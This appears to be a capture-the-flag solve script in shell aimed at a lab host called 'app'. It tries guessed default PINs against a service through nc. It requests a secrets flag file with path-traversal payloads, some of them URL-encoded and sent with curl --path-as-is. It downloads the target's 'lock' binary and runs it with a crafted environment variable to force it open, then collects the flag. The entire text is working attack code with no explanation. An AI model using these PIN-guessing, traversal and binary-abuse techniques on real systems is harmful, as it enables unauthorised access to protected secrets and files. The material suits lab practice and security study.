#-- PINs that somebody may have chosen, and the file beside the program
for pin in 0000000000000000 0123456789abcdef ffffffffffffffff deadbeefdeadbeef; do
    echo "pin $pin" | nc -N -w 5 app 4000
done > /tmp/answers
for path in ../../secrets/flag %2e%2e/%2e%2e/secrets/flag /srv/secrets/flag; do
    curl -s --path-as-is "http://app:8081/$path"
done >> /tmp/answers
#-- at home it opens to everybody
cd /tmp && curl -s -o lock http://app:8081/lock && chmod +x lock
echo 'pin 0000000000000001' | SLOTS='1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1' ./lock >> answers
grep -o 'flag{[0-9a-f]*}' answers || echo none
